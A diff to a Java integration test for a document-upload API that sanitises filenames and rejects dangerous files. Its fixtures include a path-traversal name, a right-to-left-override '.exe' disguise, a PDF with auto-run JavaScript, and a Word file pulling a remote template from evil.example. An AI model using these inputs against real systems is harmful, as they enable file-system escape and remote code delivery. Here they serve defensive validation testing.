@@ -165,22 +165,24 @@ class AttachmentsApiIT {
         String exact = "長".repeat(83) + "ab.pdf";
         return Stream.of(
                 Arguments.of(exact, exact),
-                Arguments.of("長".repeat(100) + ".pdf", "長".repeat(82) + "….pdf"),
                 Arguments.of(
                         Normalizer.normalize("ガイド.pdf", Normalizer.Form.NFD),
                         Normalizer.normalize("ガイド.pdf", Normalizer.Form.NFD)),
-                Arguments.of("CON", "CON"),
-                Arguments.of("../../etc/passwd", "passwd"),
+                Arguments.of("CON", "CON.pdf"),
+                Arguments.of("../../etc/passwd", "passwd.pdf"),
                 Arguments.of("C:\\fakepath\\定款.pdf", "定款.pdf"),
-                Arguments.of("請求\u202Efdp.exe\t\u0007", "請求fdp.exe"),
+                Arguments.of("請求\u202Efdp.exe\t\u0007", "請求fdp.pdf"),
                 Arguments.of("葛\uDB40\uDD00城😀.PDF", "葛\uDB40\uDD00城😀.PDF"),
                 Arguments.of("=SUM(A1).pdf", "=SUM(A1).pdf"),
-                Arguments.of("定款.exe", "定款.exe"));
+                Arguments.of("定款.exe", "定款.pdf"),
+                Arguments.of("写真.jpg", "写真.pdf"),
+                Arguments.of("x.pdf.exe", "x.pdf"),
+                Arguments.of("定款", "定款.pdf"));
     }
 
     @ParameterizedTest(name = "{0}")
     @MethodSource("names")
-    @DisplayName("日本語の名前と 255 バイトの名前は往復し、道筋と見えない文字は除かれる")
+    @DisplayName("日本語の名前と 255 バイトの名前は往復し、道筋と見えない文字は除かれ、終わりは中身の種類になる")
     void keepsNames(String sent, String kept) {
         String id = attached(send(number, SLOT, sent, SampleApplication.pdf("名前")));
         assertThat(Database.column("select name from attachment where id = ?", Long.valueOf(id)))
@@ -192,6 +194,42 @@ class AttachmentsApiIT {
         assertThat(java.net.URLDecoder.decode(encoded.replace("+", "%2B"), StandardCharsets.UTF_8))
                 .isEqualTo(kept);
         remove(number, id);
+    }
+
+    @Test
+    @DisplayName("名前を直したら、送られた名前も返し、画面で知らせ、見せる。長い名前は違うままに縮める")
+    void tellsCorrectedNames() {
+        JsonNode plain =
+                send(number, SLOT, "定款.pdf", SampleApplication.pdf("直さない")).json();
+        assertThat(plain.get("sentName")).isEqualTo(plain.get("name"));
+        JsonNode corrected =
+                send(number, SLOT, "見積書.hta", SampleApplication.pdf("直す")).json();
+        assertThat(corrected.get("name").asText()).isEqualTo("見積書.pdf");
+        assertThat(corrected.get("sentName").asText()).isEqualTo("見積書.hta");
+        String path = "/applications/" + number + "/attachments";
+        Browser browser = Browser.signedIn(user);
+        assertThat(browser.get(path).text()).contains("見積書.pdf", "送られた名前：見積書.hta");
+        remove(number, plain.get("id").asText());
+        remove(number, corrected.get("id").asText());
+
+        String long1 = "長い名前".repeat(30);
+        JsonNode one = send(number, SLOT, long1 + "その一.pdf", SampleApplication.pdf("一"))
+                .json();
+        Answer sent = browser.post(
+                path,
+                new MultipartBody()
+                        .field("csrfToken", Browser.csrfToken(browser.get(path)))
+                        .field("slot", SLOT)
+                        .file("file", long1 + "その二.pdf", SampleApplication.pdf("二")));
+        assertThat(sent.status()).as(sent.text()).isEqualTo(303);
+        assertThat(browser.follow(sent).text())
+                .contains("「" + long1 + "その二.pdf」を、「長い名前", "長い名前その二.pdf」として受領しました。名前の終わりは");
+        JsonNode two = SampleApplication.get(user, number).at("/attachments/1");
+        assertThat(one.get("name").asText()).endsWith("その一.pdf").hasSizeLessThan(long1.length());
+        assertThat(two.get("name").asText()).endsWith("その二.pdf");
+        assertThat(one.get("sentName").asText()).isEqualTo(long1 + "その一.pdf");
+        remove(number, one.get("id").asText());
+        remove(number, two.get("id").asText());
     }
 
     // ---- 権限 ----
@@ -355,6 +393,34 @@ class AttachmentsApiIT {
                         422,
                         "content",
                         "virus"),
+                Arguments.of(
+                        "JavaScript の PDF",
+                        SLOT,
+                        new String(pdf, StandardCharsets.ISO_8859_1)
+                                .replace("/Type/Catalog", "/Type/Catalog/OpenAction<</S/JavaScript/#4AS(a)>>")
+                                .getBytes(StandardCharsets.ISO_8859_1),
+                        422,
+                        "content",
+                        "script"),
+                Arguments.of(
+                        "外のひな形の Word",
+                        OFFICE,
+                        docx(
+                                Map.of(
+                                        "word/_rels/settings.xml.rels",
+                                        bytes(
+                                                "<Relationships><Relationship Id=\"a\" Type=\"x/attachedTemplate\""
+                                                        + " Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>"))),
+                        422,
+                        "content",
+                        "external-reference"),
+                Arguments.of(
+                        "iPhone の写真",
+                        SLOT,
+                        bytes("\0\0\0 ftypheic\0\0\0\0mif1heic"),
+                        415,
+                        "unsupported-media-type",
+                        "unsupported-media-type"),
                 Arguments.of("パスワードの Word", OFFICE, encrypted, 422, "content", "encrypted"),
                 Arguments.of(
                         "マクロの Word", OFFICE, docx(Map.of("word/vbaProject.bin", new byte[9])), 422, "content", "macro"),
@@ -397,9 +463,11 @@ class AttachmentsApiIT {
     @DisplayName("よい Word と画像は、中身から種類が分かる")
     void acceptsOfficeAndImages() {
         Answer word = send(number, OFFICE, "計画", docx(Map.of()));
+        assertThat(word.json().get("name").asText()).isEqualTo("計画.docx");
         assertThat(word.json().get("mediaType").asText()).endsWith("wordprocessingml.document");
         Answer image = send(number, OFFICE, "図.pdf", png(40, 30));
         assertThat(image.json().get("mediaType").asText()).isEqualTo("image/png");
+        assertThat(image.json().get("name").asText()).isEqualTo("図.png");
         remove(number, attached(word));
         remove(number, attached(image));
     }
@@ -850,7 +918,7 @@ class AttachmentsApiIT {
     private static byte[] docx(Map<String, byte[]> more) {
         Map<String, byte[]> parts = new LinkedHashMap<>();
         parts.put("[Content_Types].xml", bytes("<Types/>"));
-        parts.put("word/document.xml", bytes("<w:document/>"));
+        parts.put("word/document.xml", bytes("<w:document xmlns:w=\"urn:w\"/>"));
         parts.putAll(more);
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         try (ZipOutputStream zip = new ZipOutputStream(out)) {
